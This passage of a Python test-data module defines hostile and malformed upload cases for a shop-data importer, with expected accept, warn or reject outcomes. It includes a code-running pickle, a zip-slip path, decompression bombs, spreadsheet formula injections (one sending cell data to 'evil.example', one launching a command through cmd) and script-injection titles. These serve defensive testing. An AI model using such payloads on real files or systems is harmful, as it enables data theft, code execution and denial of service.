"""The bad-input table: files as shops, spreadsheets and analytics tools really export them.

Each `Case` names a file as it is uploaded (hostile names included), builds its bytes in code,
says which table it is, and what an import must do with it: "accept" (stored, no warning),
"warn" (stored, with the warnings named) or "reject" (refused, the workspace untouched), with
the finding codes expected and key words of their messages. `tests/data/test_bad_inputs.py`
runs every case through the Data page's upload path and through the command line.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import lzma
import pickle
import re
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd

MARKER = "UNPICKLED"  # the file a malicious pickle would write into the scratch folder

# A good interaction log (three shoppers, two events or more each) and its catalog.
LOG = ("user_id,item_id,timestamp,event_type\n"
       "u1,p1,2024-03-01T10:00:00Z,view\nu1,p2,2024-03-01T10:05:00Z,purchase\n"
       "u2,p1,2024-03-02T09:00:00Z,view\nu2,p3,2024-03-02T09:10:00Z,cart\n"
       "u3,p2,2024-03-03T12:00:00Z,view\nu3,p4,2024-03-03T12:30:00Z,purchase\n")
CATALOG = ("item_id,title,description,category,brand,price\n"
           "p1,Blue mug,A blue mug,Home > Kitchen,Acme,5.50\n"
           "p2,Green tea,Loose leaf,Food > Tea,Leafy,3.20\n"
           "p3,Teapot,Cast iron,Home > Kitchen,Acme,19.90\n"
           "p4,Tea towel,Cotton,Home > Textiles,Acme,4.00\n")
RETAIL = [  # the Online Retail export: order lines, US month-first dates, a return, no customer
    ["InvoiceNo", "StockCode", "Description", "Quantity", "InvoiceDate", "UnitPrice",
     "CustomerID", "Country"],
    ["536365", "85123A", "WHITE HANGING HEART T-LIGHT HOLDER", "6", "12/1/2010 8:26", "2.55",
     "17850", "United Kingdom"],
    ["536365", "71053", "WHITE METAL LANTERN", "6", "12/1/2010 8:26", "3.39", "17850",
     "United Kingdom"],
    ["536366", "22633", "HAND WARMER UNION JACK", "6", "12/1/2010 8:28", "1.85", "17850",
     "United Kingdom"],
    ["C536379", "22633", "HAND WARMER UNION JACK", "-1", "12/1/2010 9:41", "1.85", "14527",
     "United Kingdom"],
    ["536380", "22961", "JAM MAKING SET PRINTED", "24", "12/13/2010 9:41", "1.45", "14527",
     "United Kingdom"],
    ["536381", "85123A", "WHITE HANGING HEART T-LIGHT HOLDER", "3", "12/13/2010 9:45", "2.55",
     "14527", "United Kingdom"],
    ["536382", "71053", "WHITE METAL LANTERN", "2", "12/14/2010 10:00", "3.39", "",
     "United Kingdom"],
]

Maker = Callable[[Path], bytes]
Snapshot = tuple[dict[str, bytes], list[str]]
_IGNORED = ("locks",)  # lock files come and go by design


@dataclass(frozen=True)
class Case:
    """One bad (or awkward) input and what an import must do with it.

    Attributes:
        id: the test id.
        kind: the class of input (containers, compression, headers, ...).
        name: the file name as uploaded.
        make: builds the bytes (given a scratch folder, the one a malicious pickle would use).
        outcome: "accept", "warn" or "reject".
        codes: finding codes the report must hold.
        words: key words the messages, fixes or file names of those findings must hold
            ("{file}": the file's name as the reader shows it).
        table: "interactions", or "catalog" (then LOG is the interaction log).
        default_event: the "Every row is a" choice (--default-event).
        time_format: the "Date format" choice (--time-format).
        check: extra assertions on the stored dataset.
        cli: whether the command line can take the case (its name is sanitised there when a
            file system cannot hold it, see `cli_name`).
    """

    id: str
    kind: str
    name: str
    make: Maker
    outcome: str
    codes: tuple[str, ...] = ()
    words: tuple[str, ...] = ()
    table: str = "interactions"
    default_event: str | None = None
    time_format: str | None = None
    check: Callable[[object], None] | None = None
    cli: bool = True

    @property
    def cli_name(self) -> str:
        """The file's name on disk for the command line: '/', NUL and line breaks replaced."""
        return re.sub(r"[/\x00\n\r]", "_", self.name)


def snapshot(top: Path, root: Path) -> Snapshot:
    """Every file under `top` with its bytes (lock files and the SQLite files left out), and the
    content of the workspace `root`'s SQLite catalog (its raw bytes change on reads)."""
    files = {}
    for path in sorted(top.rglob("*")):
        if path.is_file() and not path.name.startswith("catalog.sqlite") and not any(
                part in _IGNORED for part in path.relative_to(top).parts):
            files[path.relative_to(top).as_posix()] = path.read_bytes()
    db = sqlite3.connect(f"file:{root / 'catalog.sqlite'}?mode=ro", uri=True)
    try:
        dump = list(db.iterdump())
    finally:
        db.close()
    return files, dump


# Builders ----------------------------------------------------------------------------------
def text(body: str, encoding: str = "utf-8") -> Maker:
    return lambda scratch: body.encode(encoding)


def rows(header: str, *lines: str) -> Maker:
    """A comma-separated text of these lines."""
    return text("\n".join([header, *lines]) + "\n")


def log_with(column: str, values: list[str]) -> Maker:
    """A log of three shoppers with two events each (user, item, timestamp), `column` holding
    `values` (6 of them)."""
    cols = ["user_id", "item_id", "timestamp"]
    cols += [column] if column not in cols else []
    base = {"user_id": ["u1", "u1", "u2", "u2", "u3", "u3"],
            "item_id": ["p1", "p2", "p1", "p3", "p2", "p4"],
            "timestamp": [f"2024-03-0{d}T1{h}:00:00Z" for d in (1, 2, 3) for h in (0, 1)]}
    base[column] = values
    lines = [",".join(_quote(base[c][i]) for c in cols) for i in range(6)]
    return text("\n".join([",".join(cols), *lines]) + "\n")


def catalog_with(column: str, values: list[str]) -> Maker:
    """CATALOG (p1..p4, every catalog column) with `column` holding `values` (4 of them)."""
    base = frame_of(CATALOG).to_dict("list")
    base[column] = values
    cols = list(base)
    lines = [",".join(_quote(base[c][i]) for c in cols) for i in range(4)]
    return text("\n".join([",".join(cols), *lines]) + "\n")


def _quote(value: str) -> str:
    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\n') else value


def frame_of(body: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(body), dtype=str, keep_default_na=False)


def xlsx(sheets: dict[str, list[list[object]]]) -> bytes:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, cells in sheets.items():
        sheet = book.create_sheet(title)
        for row in cells:
            sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def parquet(frame: pd.DataFrame) -> bytes:
    out = io.BytesIO()
    frame.to_parquet(out, index=False)
    return out.getvalue()


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for member, data in members.items():
            zf.writestr(member, data)
    return out.getvalue()


def encrypted_zip(member: str, data: bytes) -> bytes:
    """A zip whose member is flagged as password-protected (zipfile cannot write real ones)."""
    raw = bytearray(zipped({member: data}))
    local, central = raw.find(b"PK\x03\x04"), raw.find(b"PK\x01\x02")
    raw[local + 6] |= 1
    raw[central + 8] |= 1
    return bytes(raw)


def sqlite_db(scratch: Path) -> bytes:
    path = scratch / "shop.db"
    with sqlite3.connect(path) as db:
        db.execute("CREATE TABLE orders (user_id TEXT, item_id TEXT)")
        db.execute("INSERT INTO orders VALUES ('u1', 'p1')")
    db.close()
    data = path.read_bytes()
    path.unlink()
    return data


class Unpickled:
    """Unpickling this writes MARKER into the scratch folder: proof that a pickle was loaded."""

    def __init__(self, scratch: Path) -> None:
        self.path = scratch / MARKER

    def __reduce__(self):
        return Path.write_text, (self.path, "a pickle was loaded")


def evil_pickle(protocol: int) -> Maker:
    return lambda scratch: pickle.dumps({"rows": [Unpickled(scratch)]}, protocol=protocol)


@functools.lru_cache(maxsize=None)
def gzip_bomb(mib: int = 160) -> bytes:
    """A valid gzip of a CSV log of `mib` MiB (some 400 times smaller), built in chunks:
    after a full flush the same chunk compresses to the same bytes, so one segment repeats."""
    line = b"u1,p1,2024-03-01T10:00:00Z,view\n"
    chunk = line * ((1 << 20) // len(line))
    header = b"user_id,item_id,timestamp,event_type\n"
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    first = packer.compress(header + chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    segment = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(header + chunk)
    for _ in range(mib - 1):
        crc = zlib.crc32(chunk, crc)
    size = len(header) + mib * len(chunk)
    return first + segment * (mib - 1) + b"\x03\x00" + struct.pack("<II", crc, size & 0xFFFFFFFF)


@functools.lru_cache(maxsize=None)
def zip_bomb(mib: int = 160) -> bytes:
    """A zip holding one CSV of `mib` MiB of the same line, written in chunks."""
    out = io.BytesIO()
    chunk = b"u1,p1,2024-03-01T10:00:00Z,view\n" * 32768
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        with zf.open("log.csv", "w", force_zip64=True) as member:
            member.write(b"user_id,item_id,timestamp,event_type\n")
            for _ in range(mib):
                member.write(chunk)
    return out.getvalue()


@functools.lru_cache(maxsize=None)
def parquet_bomb(rows: int = 6_000_000) -> bytes:
    """A Parquet file of `rows` identical rows: run-length encoded into about 30 kB."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table({"user_id": pa.repeat(pa.scalar("u1"), rows),
                      "item_id": pa.repeat(pa.scalar("p1"), rows)})
    out = io.BytesIO()
    pq.write_table(table, out)
    return out.getvalue()


def csv_rows(cells: list[list[str]]) -> str:
    return "".join(",".join(_quote(c) for c in row) + "\n" for row in cells)


def gz(maker: Maker) -> Maker:
    return lambda scratch: gzip.compress(maker(scratch), mtime=0)


# Checks on a stored dataset ------------------------------------------------------------------
def events_are(**counts: int) -> Callable[[object], None]:
    def check(ds) -> None:
        found = ds.interactions["event_type"].value_counts()
        assert found[found > 0].to_dict() == counts
    return check


def title_of(item: str, expected: str | None) -> Callable[[object], None]:
    def check(ds) -> None:
        found = ds.catalog.set_index("item_id").loc[item, "title"]
        assert (pd.isna(found) and expected is None) or found == expected, found
    return check


def first_time(expected: str) -> Callable[[object], None]:
    def check(ds) -> None:
        assert str(ds.interactions["timestamp"].min()) == expected
    return check


def prices(*expected: float | None) -> Callable[[object], None]:
    def check(ds) -> None:
        got = ds.catalog.set_index("item_id").loc[["p1", "p2", "p3", "p4"], "price"].tolist()
        assert [None if pd.isna(g) else round(g, 2) for g in got] == list(expected)
    return check


def ids_are(column: str, *expected: str) -> Callable[[object], None]:
    def check(ds) -> None:
        assert sorted(ds.interactions[column].unique()) == sorted(expected)
    return check


LOG_FRAME = frame_of(LOG)
RETAIL_CSV = csv_rows(RETAIL)
XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)  # an OLE2 (Excel 97-2003) header
HTML = "<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body>Please log in</body>"

CASES: list[Case] = [
    # Containers: the bytes decide, whatever the name says; refused formats say how to convert.
    Case("xlsx-log", "containers", "orders.xlsx",
         lambda s: xlsx({"Orders": [LOG_FRAME.columns.tolist(), *LOG_FRAME.values.tolist()]}),
         "accept", ("timestamp_format",)),
    Case("xlsx-named-csv", "containers", "orders.csv",
         lambda s: xlsx({"Orders": [LOG_FRAME.columns.tolist(), *LOG_FRAME.values.tolist()]}),
         "accept", ("reader_note",), ("Excel workbook whatever its name says",)),
    Case("xlsx-several-sheets", "containers", "shop.xlsx",
         lambda s: xlsx({"Cover": [], "Orders": [LOG_FRAME.columns.tolist(),
                                                 *LOG_FRAME.values.tolist()],
                         "Returns": [["user_id", "item_id"], ["u9", "p9"]]}),
         "accept", ("reader_note",), ("3 sheets", "'Orders'")),
    Case("xlsx-header-only", "containers", "orders.xlsx",
         lambda s: xlsx({"Orders": [["user_id", "item_id"]]}), "reject", ("empty_file",),
         ("no data rows",)),
    Case("xlsx-corrupt", "containers", "orders.xlsx",
         lambda s: zipped({"xl/workbook.xml": b"<not a workbook", "[Content_Types].xml": b"x"}),
         "reject", ("corrupt_file",), ("not a readable Excel workbook",)),
    Case("parquet-log", "containers", "log.parquet", lambda s: parquet(LOG_FRAME), "accept",
         ("timestamp_format",)),
    Case("parquet-float-ids", "containers", "orders.parquet",
         lambda s: parquet(LOG_FRAME.assign(user_id=[17850.0, 17850.0, 14527.0, None, 14527.0,
                                                     14527.0])), "warn", ("missing_ids",),
         check=ids_are("user_id", "14527", "17850")),  # pandas' floats for IDs with gaps
    Case("parquet-named-csv", "containers", "log.csv", lambda s: parquet(LOG_FRAME), "accept",
         ("reader_note",), ("Parquet file whatever its name says",)),
    Case("text-named-parquet", "containers", "log.parquet", text(LOG), "reject",
         ("corrupt_file",), ("named like a Parquet file but holds text",)),
    Case("xls-legacy", "containers", "orders.xls", lambda s: XLS, "reject",
         ("unsupported_format",), ("Excel 97-2003", "save as .xlsx or CSV")),
    Case("pickle-dict", "containers", "log.pkl", lambda s: pickle.dumps({"user_id": ["u1"]}),
         "reject", ("unsupported_format",), ("never unpickles",)),
    Case("pickle-evil-named-csv", "containers", "events.csv", evil_pickle(4), "reject",
         ("unsupported_format",), ("Python pickle", "never unpickles")),
    Case("pickle-protocol-0-named-csv", "containers", "events.csv", evil_pickle(0), "reject",
         ("missing_column",)),
    Case("html-login-page", "containers", "export.csv", text(HTML), "reject",
         ("unsupported_format",), ("web page", "download the export again")),
    Case("html-named-xls", "containers", "report.xls",
         text("<table><tr><td>user_id</td></tr></table>"), "reject", ("unsupported_format",),
         ("saved under an Excel name",)),
    Case("sqlite-db", "containers", "orders.csv", sqlite_db, "reject", ("unsupported_format",),
         ("SQLite", "sqlite3 -header -csv")),
    Case("pdf", "containers", "report.csv", lambda s: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(99),
         "reject", ("unsupported_format",), ("PDF",)),
    Case("binary-blob", "containers", "blob.csv", lambda s: bytes(range(256)) * 16, "reject",
         ("unsupported_format",), ("binary file",)),
    Case("xml-spreadsheet", "containers", "orders.xml",
         text('<?xml version="1.0"?>\n<Workbook></Workbook>'), "reject",
         ("unsupported_format",), ("XML",)),

    # Compression: gzip and one-file zips are opened under caps; others say how to repack.
    Case("gzip-csv", "compression", "log.csv.gz", gz(text(LOG)), "accept", ("timestamp_format",)),
    Case("gzip-parquet", "compression", "log.parquet.gz", gz(lambda s: parquet(LOG_FRAME)),
         "accept", ("timestamp_format",)),
    Case("zip-one-csv", "compression", "export.zip", lambda s: zipped({"log.csv": LOG.encode()}),
         "accept", ("reader_note",), ("read 'log.csv' from the zip archive",)),
    Case("zip-macos-extras", "compression", "export.zip",
         lambda s: zipped({"log.csv": LOG.encode(), "__MACOSX/._log.csv": b"\0\5", ".DS_Store":
                           b"\0"}), "accept", ("reader_note",), ("read 'log.csv'",)),
    Case("zip-slip-member", "compression", "export.zip",
         lambda s: zipped({"../../../tmp/evil.csv": LOG.encode()}), "accept", ("reader_note",),
         ("read '../../../tmp/evil.csv' from the zip archive",)),  # read in memory, never unpacked
    Case("zip-two-files", "compression", "export.zip",
         lambda s: zipped({"a.csv": LOG.encode(), "b.csv": LOG.encode()}), "reject",
         ("archive_members",), ("the zip archive holds 2 files (a.csv, b.csv)",)),
    Case("zip-empty", "compression", "export.zip", lambda s: zipped({}), "reject",
         ("empty_file",), ("holds 0 files",)),
    Case("zip-encrypted", "compression", "export.zip",
         lambda s: encrypted_zip("log.csv", LOG.encode()), "reject", ("encrypted_file",),
         ("password-protected", "remove the password")),
    Case("zip-in-gzip", "compression", "export.zip.gz",
         gz(lambda s: zipped({"log.csv": LOG.encode()})), "reject", ("unsupported_format",),
         ("holds another zip archive",)),
    Case("gzip-truncated", "compression", "log.csv.gz", lambda s: gz(text(LOG * 20))(s)[:-30],
         "reject", ("corrupt_file",), ("corrupt or truncated",)),
    Case("gzip-bomb", "compression", "log.csv.gz", lambda s: gzip_bomb(), "reject",
         ("decompression_limit",), ("over 100 times its compressed size", "decompress it")),
    Case("zip-bomb", "compression", "log.zip", lambda s: zip_bomb(), "reject",
         ("decompression_limit",), ("expands to more than",)),
    Case("parquet-bomb", "compression", "log.parquet", lambda s: parquet_bomb(), "reject",
         ("decompression_limit",), ("the Parquet file expands to more than",
                                    "compression bombs")),
    Case("bzip2", "compression", "log.csv.bz2", lambda s: bz2.compress(LOG.encode()), "reject",
         ("unsupported_format",), ("bzip2", "gzip")),
    Case("xz", "compression", "log.csv.xz", lambda s: lzma.compress(LOG.encode()), "reject",
         ("unsupported_format",), ("xz-compressed",)),

    # Headers.
    Case("duplicate-headers", "headers", "log.csv",
         rows("user_id,Item,timestamp,item", "u1,p1,2024-03-01,p2"), "reject",
         ("duplicate_columns",), ("'Item' (column 2) and 'item' (column 4)", "rename one")),
    Case("header-only", "headers", "log.csv", text("user_id,item_id,timestamp\n"), "reject",
         ("empty_file",), ("file has a header but no data rows",)),
    Case("empty-file", "headers", "log.csv", text(""), "reject", ("empty_file",),
         ("file is empty",)),
    Case("blank-lines-only", "headers", "log.csv", text("\n \n\t\n"), "reject", ("empty_file",),
         ("file is empty",)),
    Case("padded-header", "headers", "log.csv",
         text(LOG.replace("user_id,item_id", " user_id , item_id ", 1)), "accept"),
    Case("no-item-column", "headers", "log.csv", rows("user_id,timestamp", "u1,2024-03-01"),
         "reject", ("missing_column",), ("item_id not found", "the file has: user_id")),
    Case("email-column-only", "headers", "log.csv",
         rows("email,item_id", "ann@example.com,p1", "bob@example.com,p2"), "reject",
         ("missing_column",), ("e-mail addresses are personal data", "pseudonymous")),
    Case("order-number-not-shopper", "headers", "log.csv",
         rows("InvoiceNo,StockCode", "536365,p1", "536366,p2"), "reject", ("missing_column",),
         ("'InvoiceNo' holds order numbers, not shoppers",)),
    Case("title-line-above-header", "headers", "log.csv", text("Orders export 2024\n\n" + LOG),
         "reject", ("field_count",), ("the header has 1", "if line 1 is a title")),
    Case("xlsx-blank-header-cell", "headers", "orders.xlsx",
         lambda s: xlsx({"Orders": [[*LOG_FRAME.columns, None],
                                    *[[*r, "note"] for r in LOG_FRAME.values.tolist()]]}),
         "accept", ("reader_note",), ("column 5 has no name; it was named 'unnamed_5'",)),
    Case("unnamed-column", "headers", "log.csv",
         text(LOG.replace("event_type\n", "event_type,\n", 1).replace("view\n", "view,x\n")),
         "accept", ("reader_note",), ("column 5 has no name",)),

    # Delimiters.
    Case("semicolon", "delimiters", "log.csv", text(LOG.replace(",", ";")), "accept"),
    Case("tab", "delimiters", "log.tsv", text(LOG.replace(",", "\t")), "accept"),
    Case("pipe", "delimiters", "log.txt", text(LOG.replace(",", "|")), "accept"),
    Case("double-colon", "delimiters", "ratings.dat", text(LOG.replace(",", "::")), "accept"),
    Case("trailing-delimiter", "delimiters", "log.csv",
         text(LOG.replace(",", ";").replace("\n", ";\n").replace("event_type;\n",
                                                                  "event_type\n")),
         "reject", ("field_count",), ("line 2 has 5 fields", "the header has 4",
                                      "remove the trailing delimiter ';'")),
    Case("unquoted-comma", "delimiters", "log.csv",
         text(LOG.replace("u2,p1,", "u2,p1,x,", 1)), "reject", ("field_count",),
         ("line 4 has 5 fields", "quote values")),
    Case("unclosed-quote", "delimiters", "log.csv",
         text(LOG.replace("u3,p2,", 'u3,"p2,', 1)), "reject", ("malformed_rows",),
         ("never closed",)),
    Case("short-lines", "delimiters", "log.csv",
         text(LOG.replace("u3,p4,2024-03-03T12:30:00Z,purchase", "u3,p4,2024-03-03T12:30:00Z")),
         "warn", ("reader_note", "missing_event_types"),
         ("fewer fields than the header", "line 7", "1 event(s) have no event type")),
    Case("excel-sep-line", "delimiters", "log.csv", text("sep=;\r\n" + LOG.replace(",", ";")),
         "accept", ("reader_note",), ("'sep=;' (Excel's delimiter hint)",)),
    Case("excel-sep-line-bad-row", "delimiters", "log.csv",
         text("sep=;\n" + LOG.replace(",", ";").replace("u2;p1;", "u2;p1;x;", 1)), "reject",
         ("field_count",), ("line 5 has 5 fields",)),  # the line numbers count the sep= line
]

US = ["10/30/2011 16:17", "10/30/2011 16:20", "11/2/2011 9:05", "11/2/2011 9:30",
      "12/13/2011 10:00", "12/13/2011 11:00"]
CATALOG_LOG = "events.csv"  # the interaction log given beside a catalog case

CASES += [
    # Encodings.
    Case("cp1252-bytes", "encodings", "log.csv",
         text(LOG.replace("u2,p1", "ren\u00e9,p1"), "cp1252"), "reject", ("undecodable_bytes",),
         ("byte 0xE9 at line 4 is not valid utf-8 text", "CSV UTF-8")),
    Case("utf16-bom-tabs", "encodings", "log.txt", text(LOG.replace(",", "\t"), "utf-16"),
         "accept"),
    Case("utf16le-no-bom", "encodings", "log.csv", text(LOG, "utf-16-le"), "accept"),
    Case("utf8-bom", "encodings", "log.csv", text("\ufeff" + LOG), "accept"),
    Case("latin1-catalog", "encodings", "catalog.csv",
         text(CATALOG.replace("Teapot", "Th\u00e9i\u00e8re"), "latin-1"), "reject",
         ("undecodable_bytes",), ("byte 0xE9 at line 4",), table="catalog"),

    # Date-times.
    Case("us-month-first", "date-times", "log.csv", log_with("timestamp", US), "accept",
         ("timestamp_format",), ("month-first", "second number above 12"),
         check=first_time("2011-10-30 16:17:00+00:00")),
    Case("day-first", "date-times", "log.csv",
         log_with("timestamp", ["30/10/2011 16:17", "30/10/2011 16:20", "2/11/2011 9:05",
                                "2/11/2011 9:30", "13/12/2011 10:00", "13/12/2011 11:00"]),
         "accept", ("timestamp_format",), ("day-first", "first number above 12"),
         check=first_time("2011-10-30 16:17:00+00:00")),
    Case("ambiguous-slashes", "date-times", "log.csv",
         log_with("timestamp", ["01/02/2011", "01/03/2011", "02/04/2011", "03/05/2011",
                                "04/06/2011", "05/07/2011"]),
         "warn", ("ambiguous_dates",), ("every date fits both day-first and month-first",
                                        "choose the date format"),
         check=first_time("2011-01-02 00:00:00+00:00")),
    Case("ambiguous-chosen-day-first", "date-times", "log.csv",
         log_with("timestamp", ["01/02/2011", "01/03/2011", "02/04/2011", "03/05/2011",
                                "04/06/2011", "05/07/2011"]),
         "accept", ("timestamp_format",), ("as chosen", "day-first"), time_format="day-first",
         check=first_time("2011-02-01 00:00:00+00:00")),
    Case("us-chosen-month-first", "date-times", "log.csv", log_with("timestamp", US), "accept",
         ("timestamp_format",), ("as chosen",), time_format="month-first"),
    Case("us-forced-day-first", "date-times", "log.csv", log_with("timestamp", US), "reject",
         ("unparseable_timestamps",), ("could not be read",), time_format="day-first"),
    Case("custom-pattern", "date-times", "log.csv",
         log_with("timestamp", ["2011.10.30-16h17", "2011.10.30-16h20", "2011.11.02-09h05",
                                "2011.11.02-09h30", "2011.12.13-10h00", "2011.12.13-11h00"]),
         "accept", ("timestamp_format",), time_format="%Y.%m.%d-%Hh%M",
         check=first_time("2011-10-30 16:17:00+00:00")),
    Case("bad-time-format", "date-times", "log.csv", text(LOG), "reject", ("bad_time_format",),
         time_format="%Q-%d"),
    Case("mixed-formats", "date-times", "log.csv",
         log_with("timestamp", ["2011-10-30T16:17:00Z", "2011-10-30T16:20:00Z",
                                "11/2/2011 9:05", "11/2/2011 9:30", "2011-12-13T10:00:00Z",
                                "12/14/2011 11:00"]),
         "reject", ("mixed_timestamp_formats",), ("the timestamp column mixes 2 formats",
                                        "ISO 8601 date-times: 3",
                                        "month-first dates like 10/30/2011: 3")),
    Case("unparseable", "date-times", "log.csv",
         log_with("timestamp", ["yesterday", "today", "soon", "later", "now", "never"]),
         "reject", ("unparseable_timestamps",), ("could not be read",)),
    Case("years-1900-9999", "date-times", "log.csv",
         log_with("timestamp", ["1900-01-01", "2024-03-01", "2024-03-02", "9999-12-31",
                                "2024-03-03", "2024-03-04"]),
         "warn", ("implausible_timestamps",), ("before 1990-01-01",
                                               "more than a year in the future", "set to empty")),
    Case("year-1", "date-times", "log.csv",
         log_with("timestamp", ["0001-01-01T00:00:00", "2024-03-01T00:00:00",
                                "2024-03-02T00:00:00", "2024-03-02T01:00:00",
                                "2024-03-03T00:00:00", "2024-03-04T00:00:00"]),
         "warn", ("implausible_timestamps",), ("before 1990-01-01",)),
    Case("epoch-seconds", "date-times", "log.csv",
         log_with("timestamp", [str(1709287200 + 600 * i) for i in range(6)]), "accept",
         ("timestamp_format",), ("epoch",), check=first_time("2024-03-01 10:00:00+00:00")),
    Case("epoch-milliseconds", "date-times", "log.csv",
         log_with("timestamp", [str((1709287200 + 600 * i) * 1000) for i in range(6)]), "accept",
         ("timestamp_format",), ("milliseconds",), check=first_time("2024-03-01 10:00:00+00:00")),
    Case("excel-serials", "date-times", "log.csv",
         log_with("timestamp", ["40846.5", "40846.75", "40849.25", "40849.375", "40890.4375",
                                "40890.5"]),
         "accept", ("timestamp_format",), ("Excel serial",),
         check=first_time("2011-10-30 12:00:00+00:00")),

    # IDs.
    Case("nul-in-ids", "ids", "log.csv", text(LOG.replace("u1,", "u\x001,")), "warn",
         ("control_characters_in_ids",), ("invisible control characters", "removed"),
         check=ids_are("user_id", "u1", "u2", "u3")),
    Case("zero-width-item-ids", "ids", "log.csv", text(LOG.replace("p1,", "p1\u200b,")), "warn",
         ("control_characters_in_ids",), ("zero-width",),
         check=ids_are("item_id", "p1", "p2", "p3", "p4")),
    Case("empty-ids", "ids", "log.csv",
         text(LOG + ",p1,2024-03-04T10:00:00Z,view\nu3,,2024-03-04T11:00:00Z,view\n"), "warn",
         ("missing_ids",), ("2 row(s) without a user or item ID were dropped",)),
    Case("only-control-ids", "ids", "log.csv",
         text(LOG.replace("u3,", "\x00\x01,")), "warn",
         ("control_characters_in_ids", "missing_ids"), ("IDs left empty count as missing",)),
    Case("email-user-ids", "ids", "log.csv",
         text(LOG.replace("u1,", "ann@example.com,").replace("u2,", "bob@example.org,")
              .replace("u3,", "cy@shop.co.uk,")), "warn", ("email_user_ids",),
         ("e-mail addresses", "pseudonymous")),
    Case("leading-zeros-kept", "ids", "log.csv", text(LOG.replace("p1,", "007,")), "accept",
         check=ids_are("item_id", "007", "p2", "p3", "p4")),

    # Values: prices in the catalog, values and quantities in the log.
    Case("euro-decimal-comma", "values", "catalog.csv",
         catalog_with("price", ["12,99 \u20ac", "3,20 \u20ac", "1.299,99 \u20ac", "4 \u20ac"]),
         "accept", ("number_format",), ("','", "as the decimal separator", "\u20ac"),
         table="catalog", check=prices(12.99, 3.2, 1299.99, 4.0)),
    Case("thousands-dot-decimal-comma", "values", "catalog.csv",
         catalog_with("price", ["1.299,99", "12,50", "0,99", "2.000,00"]), "accept",
         ("number_format",), ("','",), table="catalog", check=prices(1299.99, 12.5, 0.99, 2000.0)),
    Case("negative-prices", "values", "catalog.csv",
         catalog_with("price", ["5.50", "-3.20", "19.90", "4.00"]), "warn",
         ("negative_prices",), ("negative and were set to empty",), table="catalog",
         check=prices(5.5, None, 19.9, 4.0)),
    Case("infinite-prices", "values", "catalog.csv",
         catalog_with("price", ["inf", "NaN", "1e999", "4.00"]), "warn", ("non_finite_prices",),
         ("infinite", "set to empty"), table="catalog", check=prices(None, None, None, 4.0)),
    Case("text-prices", "values", "catalog.csv",
         catalog_with("price", ["five", "3.20", "n/a", "4.00"]), "warn", ("bad_prices",),
         ("are not numbers and were set to empty",), table="catalog"),
    Case("ambiguous-prices", "values", "catalog.csv",
         catalog_with("price", ["1,299", "2,500", "3", "4"]), "warn", ("ambiguous_prices",),
         ("could be read two ways",), table="catalog"),
    Case("arabic-indic-digit-prices", "values", "catalog.csv",
         catalog_with("price", ["\u0661\u0662", "3.20", "19.90", "4.00"]), "warn",
         ("bad_prices",), ("1 price(s) are not numbers",), table="catalog",
         check=prices(None, 3.2, 19.9, 4.0)),
    Case("quantity-decimal-comma", "values", "orders.csv",
         log_with("quantity", ["1,5", "2", "1", "3", "2,5", "1"]), "accept",
         ("number_format", "value_from_quantity"), ("quantities read with ','",)),
    Case("infinite-values", "values", "log.csv",
         log_with("value", ["1", "inf", "2", "-inf", "3", "4"]), "warn", ("non_finite_values",),
         ("infinite",)),
    Case("negative-values", "values", "log.csv",
         log_with("value", ["1", "-2", "2", "3", "-1", "4"]), "warn", ("negative_values",),
         ("negative",)),
    Case("quantities-with-returns", "values", "orders.csv",
         log_with("quantity", ["2", "-1", "1", "0", "3", "1"]), "warn",
         ("returns_dropped", "zero_quantity"), ("negative quantity", "quantity of 0")),
]

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
SCRIPT = "<script>alert('x')</script><b>Mug</b>"
RTL = "Mug \u202etxt.exe"
NAMED = LOG  # the body behind the hostile file names: a good log

CASES += [
    # Hostile text in the catalog: stored as text, never run; the exports neutralise formulas.
    Case("formula-titles", "hostile-text", "catalog.csv",
         catalog_with("title", [FORMULA, "=1+2", "+cmd|' /C calc'!A0", "@SUM(1)"]), "accept",
         table="catalog", check=title_of("p1", FORMULA)),
    Case("html-script-titles", "hostile-text", "catalog.csv",
         catalog_with("title", [SCRIPT, "Tea", "<img src=x onerror=alert(1)>", "Towel"]),
         "accept", table="catalog", check=title_of("p1", SCRIPT)),
    Case("rtl-override-title", "hostile-text", "catalog.csv",
         catalog_with("title", [RTL, "Tea", "Teapot", "Towel"]), "accept", table="catalog",
         check=title_of("p1", RTL)),
    Case("title-100kb", "hostile-text", "catalog.csv",
         catalog_with("title", ["x" * 100_000, "Tea", "Teapot", "Towel"]), "warn",
         ("long_text",), ("longer than 10,000 characters", "cut to 10,000"), table="catalog"),
    Case("whitespace-titles", "hostile-text", "catalog.csv",
         catalog_with("title", ["   ", "\u00a0\u200b", "Teapot", "Towel"]), "accept",
         ("blank_text",), ("2 title value(s) hold only spaces",), table="catalog",
         check=title_of("p1", None)),
    Case("no-text-at-all", "hostile-text", "catalog.csv",
         text(CATALOG.replace("Blue mug,A blue mug", " , ")), "warn",
         ("items_without_text", "blank_text"), ("1 item(s) have neither title nor description",),
         table="catalog"),
    Case("malformed-categories", "hostile-text", "catalog.csv",
         catalog_with("category", ["Home > > Kitchen", "> Food", "Home/Kitchen", "Home |"]),
         "warn", ("malformed_categories",), ("empty levels", "mixes the separators"),
         table="catalog"),
    Case("slash-categories", "hostile-text", "catalog.csv",
         catalog_with("category", ["Home/Kitchen", "Food/Tea", "Home/Kitchen", "Home/Textiles"]),
         "accept", ("categories_normalised",), ("separates levels with '/'",), table="catalog"),
    Case("duplicate-item-ids", "hostile-text", "catalog.csv",
